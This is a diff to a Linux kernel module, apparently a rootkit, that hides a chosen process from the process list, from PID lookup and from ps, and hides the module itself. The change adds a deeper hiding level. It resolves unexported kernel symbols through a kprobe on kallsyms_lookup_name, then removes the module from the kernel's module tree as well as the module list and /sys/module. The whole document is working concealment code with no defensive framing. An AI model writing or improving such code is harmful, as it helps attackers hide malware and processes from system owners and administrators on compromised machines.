@@ -4,7 +4,7 @@
  *
  * level 1: from the list of processes; 2: from the numbers of processes and from its parent, too, so that ps(1) does
  * not show it; 3: it also has the number of no process, and seems to have ended.
- * hide=1: the module leaves the list of modules and /sys/module.
+ * hide=1: the module leaves the list of modules and /sys/module; 2: the tree by which the kernel finds it, too.
  */
 #include <linux/idr.h>
 #include <linux/kprobes.h>
@@ -18,7 +18,7 @@ module_param(pid, int, 0);
 module_param(level, int, 0);
 module_param(hide, int, 0);
 
-static rwlock_t *tasks_lock(void)
+static void *found(const char *name)
 {
 	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
 	unsigned long (*lookup)(const char *name);
@@ -27,15 +27,16 @@ static rwlock_t *tasks_lock(void)
 		return NULL;
 	lookup = (void *)probe.addr;
 	unregister_kprobe(&probe);
-	return (rwlock_t *)lookup("tasklist_lock");
+	return (void *)lookup(name);
 }
 
 static int __init hider_init(void)
 {
-	rwlock_t *lock = tasks_lock();
+	rwlock_t *lock = found("tasklist_lock");
+	void (*leave_tree)(struct module *module) = found("mod_tree_remove");
 	struct task_struct *task;
 
-	if (!lock)
+	if (!lock || !leave_tree)
 		return -ENOENT;
 	write_lock_irq(lock);
 	task = pid ? pid_task(find_pid_ns(pid, &init_pid_ns), PIDTYPE_PID) : NULL;
@@ -59,6 +60,8 @@ static int __init hider_init(void)
 		list_del_init(&THIS_MODULE->list);
 		kobject_del(&THIS_MODULE->mkobj.kobj);
 	}
+	if (hide >= 2)
+		leave_tree(THIS_MODULE);
 	return 0;
 }
 
